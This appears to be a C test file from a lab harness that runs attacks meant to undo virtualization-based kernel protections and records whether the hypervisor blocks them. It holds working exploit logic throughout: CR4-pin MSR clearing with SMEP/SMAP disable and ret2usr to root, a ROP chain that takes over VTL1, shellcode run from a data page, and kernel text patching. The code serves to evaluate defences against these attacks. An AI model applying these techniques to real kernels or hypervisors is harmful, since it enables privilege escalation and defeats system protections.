/*
 * Family 11 (docs/attacks.md): undo the protections instead of fighting them.  The attacker
 * has kernel code execution (the vulnerable driver's call, kcfg=off in both runs) and uses the very
 * interfaces that armed the protections: the KVM CR-pin MSRs, the VSM enable hypercalls, the VSM
 * partition configuration, ModifyVtlProtectionMask, and the VTL call itself from ring 3.  Each program
 * checks its own goal (ring-0 payload ran, attacker code ran in VTL1, a data page executed, kernel text
 * changed) and reports the status the hypervisor answered where it refused.
 */
#include "lib/hyperv.h"
#include "lib/msr.h"
#include "lib/paging.h"
#include "lib/x86.h"
#include "vbs/user/ulib.h"

#define HV_HDR 16

static u64 sym(const char *name)
{
    u64 a = ksym(name);
    if (!a)
        attack_error("no %s in /proc/kallsyms", name);
    return a;
}

/* rdmsr/wrmsr with the kernel's own fault-tolerant accessors (lib/fixup.c): 0 or the vector taken */
static int k_rdmsr(u32 msr, u64 *val)
{
    u64 page = kalloc_page();
    int vec = (int)kcall3(sym("rdmsr_safe"), msr, page, 0);
    *val = vec ? 0 : kread(page);
    return vec;
}
static int k_wrmsr(u32 msr, u64 val) { return (int)kcall3(sym("wrmsr_safe"), msr, val, 0); }

static bool vsm_on(void) { return kread(sym("vbs") + __builtin_offsetof(struct vbs_state, vsm)) & 0xff; }

/* ---- unpin-msr (11a) ---- */
struct smep_ctx {
    u64 cred_slot, root_cred, ran;
};
#define PAYLOAD_RAN 0x72696e672d30ull /* "ring-0" */
static u64 unpin_payload(u64 arg) /* commit_creds(root) in miniature, run in ring 0 from a user page */
{
    struct smep_ctx *c = (struct smep_ctx *)arg;
    *(volatile u64 *)c->cred_slot = c->root_cred;
    c->ran = PAYLOAD_RAN;
    return 0;
}

/*
 * unpin-msr: the paravirtualized CR pins (KVM RFC, MSR_KVM_CR4_PINNED_HIGH 0x4b564d0d) are what stops
 * "mov %rdi,%cr4" from clearing SMEP; an attacker with kernel execution first writes the pin MSR back to
 * 0, as an attacker undoes Linux's software pinning by overwriting cr4_pinned_bits (the reason that
 * variable is __ro_after_init) or static keys.  Then SMEP/SMAP off through the gadget and a payload in a
 * user page run in ring 0 (LKDTM UNSET_SMEP + ret2usr).  Pins are add-only: the wrmsr is refused
 * with #GP (wrmsr_safe returns the vector), and the pins stay.
 */
static int attack_unpin_msr(const char *args)
{
    (void)args;
    u64 cr4 = kread(sym("cr4_shadow")), cur = kread(sym("current")), root = kread(sym("cred_root"));
    if (!(cr4 & CR4_SMEP))
        attack_error("SMEP is not on (cr4=0x%lx): nothing to defeat", cr4);
    u64 pins = 0;
    int vec = k_rdmsr(MSR_KVM_CR4_PINNED_HIGH, &pins);
    u_printf("  attack: uid %ld; CR4 0x%lx; MSR_KVM_CR4_PINNED_HIGH = 0x%lx%s\n", u_getuid(), cr4, pins,
             vec ? " (rdmsr faulted: no CR pinning offered)" : "");
    vec = k_wrmsr(MSR_KVM_CR4_PINNED_HIGH, 0);
    u_printf("  attack: wrmsr MSR_KVM_CR4_PINNED_HIGH <- 0 through wrmsr_safe: %s (vector %d)\n",
             vec ? "refused" : "accepted", vec);
    if (vec) {
        u64 after = 0;
        k_rdmsr(MSR_KVM_CR4_PINNED_HIGH, &after);
        attack_blocked("unpinning refused: wrmsr 0x%x <- 0 took vector %d; the pins are still 0x%lx",
                       MSR_KVM_CR4_PINNED_HIGH, vec, after);
    }
    struct smep_ctx *c = (struct smep_ctx *)U_SCRATCH;
    *c = (struct smep_ctx){cur + __builtin_offsetof(struct proc, cred), root, 0};
    kcall(sym("gadget_write_cr4"), cr4 & ~(u64)(CR4_SMEP | CR4_SMAP));
    kcall((u64)unpin_payload, (u64)c);
    long uid = u_getuid();
    if (c->ran == PAYLOAD_RAN && uid == 0)
        attack_succeeded("pin MSR written to 0 (was 0x%lx), SMEP/SMAP cleared, ring-0 payload at user address 0x%lx "
                         "ran; uid is now 0", pins, (u64)unpin_payload);
    attack_blocked("payload did not take effect (ran=0x%lx, uid %ld)", c->ran, uid);
}
UATTACK("unpin-msr", attack_unpin_msr);

/* ---- hypercalls from the kernel's page (family 11 b, c) ---- */
/* The kernel's hypercall page, enabled if the kernel did not (vsm=off: the attacker sets it up itself,
 * GUEST_OS_ID first, as the TLFS requires).  Returns the page. */
static u64 hypercall_page(void)
{
    u64 page = sym("__hvcall_page"), v = 0;
    if (k_rdmsr(HV_X64_MSR_HYPERCALL, &v))
        attack_error("no Hyper-V hypercall MSR (run with --hyperv)");
    if (v & 1)
        return page;
    u64 os = 0;
    k_rdmsr(HV_X64_MSR_GUEST_OS_ID, &os);
    if (!os)
        k_wrmsr(HV_X64_MSR_GUEST_OS_ID, 0x8100000000000001ull);
    int vec = k_wrmsr(HV_X64_MSR_HYPERCALL, page | 1);
    k_rdmsr(HV_X64_MSR_HYPERCALL, &v);
    u_printf("  attack: the kernel enabled no hypercall page: HV_X64_MSR_HYPERCALL <- 0x%lx (vector %d, now 0x%lx)\n",
             page | 1, vec, v);
    if (!(v & 1))
        attack_error("could not enable a hypercall page");
    return page;
}

static u64 vsm_code_page_offsets(u64 buf)
{
    struct hv_vp_registers_header h = {HV_PARTITION_ID_SELF, HV_VP_INDEX_SELF, HV_INPUT_VTL_SELF, {0, 0, 0}};
    u8 in[HV_HDR + 8];
    memset(in, 0, sizeof(in));
    memcpy(in, &h, sizeof(h));
    *(u32 *)(in + HV_HDR) = HvRegisterVsmCodePageOffsets;
    kwrite_buf(buf, in, sizeof(in));
    u64 st = khypercall(HvCallGetVpRegisters | HV_REP(1), buf, buf + 2048);
    if (HV_STATUS(st))
        attack_error("GetVpRegisters(VsmCodePageOffsets): status 0x%x", HV_STATUS(st));
    return kread(buf + 2048);
}

static struct hv_segment seg(u64 base, u32 limit, u16 sel, u16 attr) { return (struct hv_segment){base, limit, sel, attr}; }

/*
 * replay-enable-vtl (11b): take VTL1 over by enabling it again with a context of our own
 * (HvCallEnablePartitionVtl, then HvCallEnableVpVtl with RIP/RSP/CR3 of the attacker's choosing),
 * as a VTL0 that loaded a secure kernel late would.  Models hypervisor bugs that let a guest re-run a
 * one-shot initialisation (re-enabling a VTL, a second VMXON/VMRUN set-up) and "late launch" of an
 * attacker's secure kernel.  The "code" is a ROP chain in VTL0's own page tables: enable VTL1's
 * hypercall page, write a marker no VTL0 code writes, VtlReturn.  With VSM the secure kernel enabled
 * VTL1 at boot: both hypercalls answer HV_STATUS_VTL_ALREADY_ENABLED.  Without VSM (vsm=off) VTL1 is
 * free: the same calls give it to the attacker.
 */
#define VTL1_MARK 0x7674316f776e6564ull /* "vtl1owned" */
static int attack_replay_enable_vtl(const char *args)
{
    (void)args;
    u64 hv = hypercall_page(), in = kalloc_page(), stack = kalloc_page(), mark = in + 3072;
    if (!in || !stack)
        attack_error("no kernel page");
    /* 1. EnablePartitionVtl(1) */
    struct hv_enable_partition_vtl ep = {HV_PARTITION_ID_SELF, 1, 0, 0, 0};
    kwrite_buf(in, &ep, sizeof(ep));
    u64 st1 = khypercall(HvCallEnablePartitionVtl, in, 0);
    u_printf("  attack: HvCallEnablePartitionVtl(VTL1): status 0x%x\n", HV_STATUS(st1));
    /* 2. EnableVpVtl(1) with our context: VTL0's GDT and page tables, RIP/RSP = a ROP chain */
    u64 offsets = vsm_code_page_offsets(in);
    u64 pop3 = sym("gadget_pop_rdi_rsi_rdx");
    u64 chain[15] = {HV_X64_MSR_GUEST_OS_ID, 0x8100000000000001ull, 0, sym("wrmsr_safe"), /* private per VTL */
                     pop3, HV_X64_MSR_HYPERCALL, hv | 1, 0, sym("wrmsr_safe"), /* VTL1's hypercall page */
                     pop3, mark, VTL1_MARK, 0, sym("gadget_write_mem"),       /* *mark = VTL1_MARK */
                     /* VtlReturn, past the stub's "mov %rcx, %rax": RAX (wrmsr_safe's 0) is the return
                      * control input, a normal return */
                     hv + ((offsets >> 12) & 0xfff) + 3};
    kwrite_buf(stack, chain, sizeof(chain));
    kwrite(mark, 0);
    struct hv_enable_vp_vtl ev;
    memset(&ev, 0, sizeof(ev));
    ev.partition_id = HV_PARTITION_ID_SELF;
    ev.vp_index = HV_VP_INDEX_SELF;
    ev.target_vtl = 1;
    struct hv_initial_vp_context *c = &ev.ctx;
    c->rip = pop3;
    c->rsp = stack;
    c->rflags = 2;
    c->cs = seg(0, 0xffffffff, 0x08, 0xa09b);
    c->ds = c->es = c->fs = c->gs = c->ss = seg(0, 0xffffffff, 0x10, 0xc093);
    c->tr = seg(0, 0x67, 0x30, 0x8b);
    c->ldtr = seg(0, 0xffff, 0, 0x82);
    c->gdtr.limit = 63;
    c->gdtr.base = sym("gdt_table");
    c->efer = EFER_SCE | EFER_LME | EFER_LMA | EFER_NXE;
    c->cr0 = CR0_PG | CR0_WP | (1ull << 5) | (1ull << 4) | CR0_MP | CR0_PE;
    c->cr3 = kread(sym("kpt"));
    c->cr4 = CR4_PAE | (1ull << 9) | (1ull << 10);
    c->msr_cr_pat = 0x0007040600070406ull;
    kwrite_buf(in, &ev, sizeof(ev));
    u64 st2 = khypercall(HvCallEnableVpVtl, in, 0);
    u_printf("  attack: HvCallEnableVpVtl(VTL1, rip 0x%lx rsp 0x%lx cr3 0x%lx): status 0x%x\n", c->rip, c->rsp, c->cr3,
             HV_STATUS(st2));
    if (HV_STATUS(st1) || HV_STATUS(st2))
        attack_blocked("VTL1 cannot be enabled again: EnablePartitionVtl status 0x%x, EnableVpVtl status 0x%x%s",
                       HV_STATUS(st1), HV_STATUS(st2),
                       HV_STATUS(st2) == 0x86 ? " (HV_STATUS_VTL_ALREADY_ENABLED)" : "");
    /* 3. VtlCall: our VTL1 runs the chain and returns */
    kcall3(hv + (offsets & 0xfff), 0, 0, 0); /* RCX = 0: the VTL call control input */
    u64 m = kread(mark);
    if (m == VTL1_MARK)
        attack_succeeded("VTL1 is ours: the context we gave EnableVpVtl ran in VTL1 (enabled its hypercall page, "
                         "wrote 0x%lx at 0x%lx, VtlReturn)", m, mark);
    attack_blocked("VTL1 did not run our code (marker 0x%lx)", m);
}
UATTACK("replay-enable-vtl", attack_replay_enable_vtl);

/*
 * replay-partition-config (11b): HVCI's W^X for VTL0 data is VTL1's HvRegisterVsmPartitionConfig
 * (EnableVtlProtection, default mask RW: every page VTL1 did not mark is not executable).  Write it again
 * with a default mask of RWX, after making a kernel data page executable in VTL0's own page tables
 * (the kernel's map_page(), as set_memory_x() in Linux ROP chains), and run code from that page: the
 * "write shellcode into a pool page and execute it" step HVCI exists to stop (LKDTM EXEC_DATA,
 * EXEC_KMALLOC).  VTL0 may not address VTL1's VSM configuration: HvCallSetVpRegisters ->
 * HV_STATUS_ACCESS_DENIED (and the register is write-once for VTL1 itself).  Without VSM the kernel's
 * only W^X is its page tables, which the same map_page() call undoes.
 */
#define EXEC_MAGIC 0x13371337u
static int attack_replay_partition_config(const char *args)
{
    (void)args;
    u64 code = kalloc_page(), map_page = sym("map_page");
    if (!code)
        attack_error("no kernel page");
    u8 shellcode[8] = {0xb8, (u8)EXEC_MAGIC, (u8)(EXEC_MAGIC >> 8), (u8)(EXEC_MAGIC >> 16), (u8)(EXEC_MAGIC >> 24),
                       0xc3, 0xcc, 0xcc}; /* mov $EXEC_MAGIC, %eax; ret */
    kwrite_buf(code, shellcode, 8);
    kcall3(map_page, code, code, PTE_W); /* VTL0's page tables: RW and executable (no NX) */
    u_printf("  attack: shellcode at kernel data page 0x%lx, mapped RWX in VTL0's page tables (map_page)\n", code);
    if (vsm_on()) {
        u64 hv = hypercall_page(), in = kalloc_page();
        (void)hv;
        struct hv_vp_registers_header h = {HV_PARTITION_ID_SELF, HV_VP_INDEX_SELF, HV_INPUT_VTL(1), {0, 0, 0}};
        struct hv_register_assoc a = {HvRegisterVsmPartitionConfig, 0, 0,
                                      HV_VSM_CFG_ENABLE_VTL_PROTECTION | HV_VSM_CFG_DEFAULT_MASK(0xf), 0};
        u8 buf[HV_HDR + sizeof(a)];
        memcpy(buf, &h, sizeof(h));
        memcpy(buf + HV_HDR, &a, sizeof(a));
        kwrite_buf(in, buf, sizeof(buf));
        u64 st = khypercall(HvCallSetVpRegisters | HV_REP(1), in, 0);
        u_printf("  attack: SetVpRegisters(input_vtl 1: VsmPartitionConfig = EnableVtlProtection | default RWX): "
                 "status 0x%x\n", HV_STATUS(st));
        if (HV_STATUS(st))
            attack_blocked("VTL1's VsmPartitionConfig cannot be rewritten from VTL0: status 0x%x%s; data stays "
                           "non-executable", HV_STATUS(st), HV_STATUS(st) == HV_STATUS_ACCESS_DENIED
                                                                   ? " (HV_STATUS_ACCESS_DENIED)" : "");
    }
    u64 r = (u64)kcall(code, 0);
    if ((u32)r == EXEC_MAGIC)
        attack_succeeded("kernel data page 0x%lx executed in ring 0 (returned 0x%lx)", code, r);
    attack_blocked("the data page did not run (returned 0x%lx)", r);
}
UATTACK("replay-partition-config", attack_replay_partition_config);

/*
 * modify-protection-self (11c): ask the hypervisor directly to make kernel text writable:
 * HvCallModifyVtlProtectionMask(target VTL0, RWX, the page of text_victim), then patch the function and
 * call it.  Models a kernel that "temporarily unprotects" its text to patch it (text_poke,
 * ftrace/livepatch, the HVCI bypasses that flip the protection instead of the bytes).  Only a higher VTL
 * may change a VTL's protections: HV_STATUS_ACCESS_DENIED.  Without VSM the kernel's text protection
 * is its own page tables (text mapped read-only), undone with its own map_page().
 */
#define TEXT_MAGIC 0x7e47ba7cu
static int attack_modify_protection_self(const char *args)
{
    (void)args;
    u64 victim = sym("text_victim"), page = victim & ~0xfffull;
    long before = kcall(victim, 0);
    kcall3(sym("map_page"), page, page, PTE_W); /* VTL0's own page tables: text page RW+X */
    u_printf("  attack: text_victim at 0x%lx returns 0x%lx; its page mapped RW+X in VTL0's page tables\n", victim,
             before);
    if (vsm_on()) {
        u64 in = kalloc_page();
        hypercall_page();
        struct hv_modify_vtl_protection_mask m = {HV_PARTITION_ID_SELF, HV_MAP_GPA_READABLE | HV_MAP_GPA_WRITABLE |
                                                  HV_MAP_GPA_EXECUTABLE, HV_INPUT_VTL(0), {0, 0, 0}};
        u64 gpn = page >> 12;
        kwrite_buf(in, &m, sizeof(m));
        kwrite(in + sizeof(m), gpn);
        u64 st = khypercall(HvCallModifyVtlProtectionMask | HV_REP(1), in, 0);
        u_printf("  attack: HvCallModifyVtlProtectionMask(VTL0, RWX, gpn 0x%lx): status 0x%x, %lu done\n", gpn,
                 HV_STATUS(st), HV_REPS_DONE(st));
        if (HV_STATUS(st))
            attack_blocked("VTL0 may not change its own VTL protections: ModifyVtlProtectionMask status 0x%x%s; the "
                           "text stays R+X", HV_STATUS(st),
                           HV_STATUS(st) == HV_STATUS_ACCESS_DENIED ? " (HV_STATUS_ACCESS_DENIED)" : "");
    }
    u8 patch[8] = {0xb8, (u8)TEXT_MAGIC, (u8)(TEXT_MAGIC >> 8), (u8)(TEXT_MAGIC >> 16), (u8)(TEXT_MAGIC >> 24), 0xc3,
                   0xcc, 0xcc}; /* mov $TEXT_MAGIC, %eax; ret */
    kwrite_buf(victim, patch, 8);
    long after = kcall(victim, 0);
    if ((u32)after == TEXT_MAGIC)
        attack_succeeded("kernel text patched: text_victim at 0x%lx now returns 0x%lx (was 0x%lx)", victim, after,
                         before);
    attack_blocked("text_victim unchanged (returns 0x%lx)", after);
}
UATTACK("modify-protection-self", attack_modify_protection_self);

/*
 * vtlcall-ring3 (11d): call VTL1 without the kernel: ring 3 executes the VTL-call sequence of the
 * hypercall page itself ("mov $0x11, %ecx; vmmcall", HvCallVtlCall) with RDI = VBS_CALL_STATUS.
 * Success would be VTL1's answer (RAX = 0, R9 = the VTL1 region base).  Hypercalls, VtlCall included,
 * are for CPL 0 only (TLFS: a hypercall from CPL > 0 raises #UD): the hypervisor injects #UD and the
 * kernel kills the process.  There is no honest "without" run (no design lets ring 3 enter VTL1 by
 * itself): it is not a matrix row; see docs/attacks.md.
 */
static int attack_vtlcall_ring3(const char *args)
{
    (void)args;
    u64 rax, r9;
    register u64 rdi __asm__("rdi") = VBS_CALL_STATUS;
    register u64 r9r __asm__("r9") = 0;
    u_printf("  attack: ring 3 executes mov $0x%x, %%ecx; vmmcall (HvCallVtlCall) with RDI = STATUS\n",
             HvCallVtlCall);
    __asm__ volatile("mov $0x11, %%ecx\n\tvmmcall"
                     : "=a"(rax), "+r"(rdi), "+r"(r9r)
                     :
                     : "rcx", "rdx", "rsi", "r8", "r10", "r11", "memory");
    r9 = r9r;
    if (rax == 0 && r9)
        attack_succeeded("VTL1 answered a VTL call from ring 3: STATUS -> region base 0x%lx", r9);
    attack_blocked("the VTL call from ring 3 returned RAX 0x%lx without VTL1's answer", rax);
}
UATTACK("vtlcall-ring3", attack_vtlcall_ring3);
